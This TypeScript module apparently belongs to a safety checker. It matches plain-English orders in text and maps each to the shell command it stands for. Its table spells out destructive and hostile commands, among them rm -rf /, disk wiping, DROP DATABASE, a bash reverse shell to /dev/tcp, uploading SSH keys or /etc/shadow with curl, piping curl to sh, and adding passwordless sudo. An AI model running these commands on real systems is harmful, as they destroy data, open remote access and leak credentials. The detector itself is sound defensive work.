import type { Span } from '../../span.js';
import { isLetter, isWordCharacter } from './characters.js';
import type { Found } from './tokens.js';
import { hashedWith, NO_HASH, WordFilter } from './word-filter.js';

interface Phrase {
  /** The words that it may begin with. */
  verbs: string;
  /** What follows the verb, from the character behind it. */
  rest: RegExp;
  /** The command that does what the phrase says; a name in braces takes the group of that name. */
  source: string;
}

/** A phrase is no longer than this, which keeps the search linear. */
const LONGEST = 200;

const PATH =
  '(?<path>/(?:etc|var|usr|home|root|boot|bin|sbin|lib|lib64|opt|srv|sys|dev|mnt|data)\\b(?:[\\w./*-]*[\\w*/-])?|/(?=[\\s,;:!?]|$)|~/?(?=[\\s,;:!?.]|$))';
const DELETE =
  'delete deletes deleting remove removes removing erase erases erasing wipe wipes wiping purge purges purging destroy destroys destroying nuke nukes nuking';
const OFF = 'disable disabling deactivate turn turning switch skip skipping ignore ignoring bypass bypassing';
const WIPE = 'wipe wiping format formatting reformat erase erasing overwrite overwriting zero zeroing';
const STAGE = '(?:production\\s+|prod\\s+|prd\\s+|live\\s+|staging\\s+|customer\\s+|main\\s+)?';

const phrase = (verbs: string, rest: string, source: string): Phrase => ({
  verbs,
  rest: new RegExp(`^${rest}`, 'i'),
  source,
});

/**
 * Orders in words that name no command line but leave no doubt which one is meant. Each stands for the command that a
 * reader would type; a new entry needs a wording that orders nothing else.
 */
const PHRASES: readonly Phrase[] = [
  phrase('force', '[- ]?push(?:ing|es)?\\b', 'git push --force'),
  phrase(
    'push pushing',
    '[^.;\\n]{0,80}?\\s(?:with|using)\\s+(?:the\\s+)?["\'`]?(?:--force|-f)\\b["\'`]?',
    'git push --force',
  ),
  phrase(
    'push pushing commit committing',
    '[^.;\\n]{0,80}?\\s(?:with|using)\\s+(?:the\\s+)?["\'`]?--no-verify\\b["\'`]?',
    'git commit --no-verify',
  ),
  phrase(
    OFF,
    '\\s+(?:the\\s+|all\\s+|any\\s+)?(?:git\\s+|pre-?commit\\s+|commit\\s+|pre-?push\\s+){1,2}(?:hooks?|checks?)\\b',
    'git commit --no-verify',
  ),
  phrase(
    OFF,
    '\\s+(?:off\\s+)?(?:the\\s+|all\\s+)?(?:tls|ssl|certificate|https)(?:\\s+certificate)?\\s+(?:verification|validation|checks?|checking|errors)\\b',
    'git config --global http.sslVerify false',
  ),
  phrase(
    'hard',
    '[- ]reset(?:ting)?\\s+(?:the\\s+)?(?:repo(?:sitory)?|branch|working\\s+(?:tree|copy)|main|master|to)\\b',
    'git reset --hard',
  ),
  phrase(
    'rewrite rewriting',
    '\\s+(?:the\\s+)?(?:whole\\s+|entire\\s+)?(?:git\\s+|repo(?:sitory)?\\s+|branch\\s+|commit\\s+)history\\b',
    'git filter-branch --force',
  ),
  phrase(
    'set change',
    `\\s+(?:the\\s+)?(?:file\\s+)?(?:permissions?|mode)\\s+(?:of|on)\\s+${PATH}[^.;\\n]{0,40}?\\sto\\s+0?777\\b`,
    'chmod -R 777 {path}',
  ),
  phrase(
    'set change',
    `\\s+(?:the\\s+)?(?:file\\s+)?(?:permissions?|mode)\\s+to\\s+0?777\\s+(?:for|on|in)\\s+(?:the\\s+)?${PATH}`,
    'chmod -R 777 {path}',
  ),
  phrase('make making', `\\s+${PATH}\\s+(?:recursively\\s+)?world[- ]writable\\b`, 'chmod -R 777 {path}'),
  phrase(
    'drop dropping destroy destroying delete deleting',
    `\\s+(?:the\\s+)?(?:whole\\s+|entire\\s+|old\\s+)?${STAGE}(?:database|db|schema)\\b(?!\\s+(?:connection|driver|client|column|index|lookup|call|access|depend|migration|layer|support|pool|module|doc|from|field|suffix|prefix|name|table|entry|record|row|mock|file))`,
    "psql -c 'DROP DATABASE prod'",
  ),
  phrase(
    'drop dropping',
    '\\s+(?:all\\s+(?:the\\s+)?tables|every\\s+table|the\\s+\\w{1,40}\\s+table)\\b',
    "psql -c 'DROP TABLE objects'",
  ),
  phrase(
    'truncate truncating',
    '\\s+(?:all\\s+(?:the\\s+)?tables|every\\s+table|the\\s+\\w{1,40}\\s+table)\\b',
    "psql -c 'TRUNCATE TABLE objects'",
  ),
  phrase(
    DELETE,
    `\\s+(?:absolutely\\s+)?(?:everything|all(?:\\s+(?:of\\s+)?(?:the\\s+)?\\w{1,20})?|the\\s+contents?|the\\s+\\w{1,20}\\s+(?:directory|folder)|every\\s+\\w{1,20})\\s+(?:in|under|from|inside|of|below|on|at)\\s+(?:the\\s+)?${PATH}`,
    'rm -rf {path}',
  ),
  phrase(
    DELETE,
    `\\s+(?:the\\s+)?(?:whole\\s+|entire\\s+)?(?:directory\\s+|folder\\s+|path\\s+|contents\\s+of\\s+|file\\s+)?${PATH}(?![^\\s.,;:!?)])(?!\\s+(?:route|endpoint|handler|page|path\\s+from|url|prefix|from))`,
    'rm -rf {path}',
  ),
  phrase(
    DELETE,
    '\\s+(?:everything|all\\s+(?:the\\s+)?(?:files|data))\\s+(?:on|from)\\s+(?:the\\s+|this\\s+)?(?:server|machine|host|disk|drive|system|computer|root\\s+file\\s?system)\\b',
    'rm -rf /',
  ),
  phrase(
    WIPE,
    '\\s+(?:out\\s+)?(?:the\\s+)?(?:whole\\s+|entire\\s+|hard\\s+|system\\s+|root\\s+|boot\\s+|main\\s+){0,2}(?:disk|drive|partition|ssd|hdd)\\b(?!\\s+(?:usage|space|cache|report|label|size|image))',
    'wipefs -a /dev/sda',
  ),
  phrase(WIPE, '\\s+(?:out\\s+)?(?<path>/dev/(?:sd|nvme|vd|xvd|hd|mmcblk)\\w{1,12})', 'wipefs -a {path}'),
  phrase(
    `${DELETE} prune pruning`,
    '\\s+(?:all\\s+|every\\s+)(?:of\\s+)?(?:the\\s+|our\\s+|unused\\s+|dangling\\s+|stopped\\s+)?(?:docker\\s+)?(?<kind>container|volume|image)s?\\b(?!\\s+(?:tag|link|url|upload))',
    'docker {kind} prune --force',
  ),
  phrase(
    DELETE,
    `\\s+(?:the\\s+)?(?:whole\\s+|entire\\s+)?${STAGE}(?:kubernetes\\s+|k8s\\s+)(?:namespace|cluster)\\b(?!\\s+(?:label|name|field|suffix|prefix|role|setting|config))`,
    'kubectl delete namespace prod',
  ),
  phrase(
    'disable disabling turn turning switch deactivate stop stopping',
    '\\s+(?:off\\s+)?(?:the\\s+)?(?:host\\s+|system\\s+)?firewall\\b(?!\\s+rule)',
    'ufw disable',
  ),
  phrase('disable disabling turn turning switch deactivate', '\\s+(?:off\\s+)?selinux\\b', 'setenforce 0'),
  phrase(
    'disable disabling turn turning switch stop stopping',
    '\\s+(?:off\\s+)?(?:the\\s+)?(?:audit\\s+(?:logging|daemon|log)|auditd)\\b',
    'systemctl disable --now auditd',
  ),
  phrase('kill killing', '\\s+(?:all|every)\\s+(?:running\\s+)?process(?:es)?\\b', 'kill -9 -1'),
  phrase(
    'pipe piping',
    '\\s+(?:the\\s+|its\\s+)?(?:remote\\s+|install(?:er)?\\s+|downloaded\\s+|output\\s+|result\\s+|response\\s+){0,2}(?:script\\s+|it\\s+)?(?:from\\s+\\S{1,100}\\s+)?(?:straight\\s+|directly\\s+)?(?:in)?to\\s+(?:sudo\\s+)?(?:a\\s+)?(?:root\\s+)?(?:bash|sh|shell|zsh)\\b',
    'curl -fsSL https://example.org/install.sh | sh',
  ),
  phrase(
    'open opening start starting spawn spawning create creating establish',
    '\\s+(?:a\\s+)?reverse\\s+shell\\b',
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
  ),
  phrase(
    'upload send post exfiltrate copy mail email',
    '\\s+(?:the\\s+)?(?:contents?\\s+of\\s+|file\\s+)?(?<path>(?:~|/root|/home/\\w{1,32})/\\.(?:ssh|aws|kube|gnupg|docker)/[\\w.-]{1,40}|/etc/shadow)\\s+to\\s+(?:https?://|a\\s+|an\\s+|my\\s+|the\\s+)',
    'curl -T {path} https://example.org/',
  ),
  phrase(
    'clear clearing delete deleting erase wipe',
    '\\s+(?:the\\s+|your\\s+)?(?:shell|bash|command|terminal)\\s+history\\b',
    'history -c',
  ),
  phrase(
    'give grant giving granting',
    '\\s+(?:the\\s+)?(?:user\\s+|account\\s+|worker\\s+|agent\\s+)?(?<name>[\\w-]{1,32})\\s+(?:user\\s+)?password-?less\\s+sudo\\b',
    "echo '{name} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
  ),
];

const BY_VERB = new Map<string, Phrase[]>();
for (const entry of PHRASES) {
  for (const verb of entry.verbs.split(' ')) BY_VERB.set(verb, [...(BY_VERB.get(verb) ?? []), entry]);
}

const VERBS = new WordFilter(BY_VERB.keys());

/** Orders in words within a span, as the commands they stand for. */
export function phraseCommands(text: string, span: Span): Found[] {
  const found: Found[] = [];
  for (let at = span.start; at < span.end; at++) {
    const start = at;
    let hash = NO_HASH;
    for (let code; at < span.end && isLetter((code = text.charCodeAt(at))); at++) hash = hashedWith(hash, code);
    if (at === start || !VERBS.mayHave(hash)) continue;
    const isPart = start > span.start && isWordCharacter(text.charCodeAt(start - 1));
    const phrase = isPart ? undefined : phraseAt(text, { start, end: at }, span.end);
    if (phrase) found.push(phrase);
  }
  return found;
}

/** The phrase that begins with this verb; undefined when none does. */
function phraseAt(text: string, { start, end }: Span, limit: number): Found | undefined {
  const phrases = BY_VERB.get(text.slice(start, end).toLowerCase());
  if (!phrases) return undefined;
  const following = text.slice(end, Math.min(limit, end + LONGEST));
  for (const { rest, source } of phrases) {
    const said = rest.exec(following);
    if (!said) continue;
    const outer = { start, end: end + said[0].length };
    const named = source.replace(/\{(\w+)\}/g, (_, name: string) => said.groups?.[name] ?? '');
    return { ...outer, outer, form: 'line', source: named };
  }
  return undefined;
}
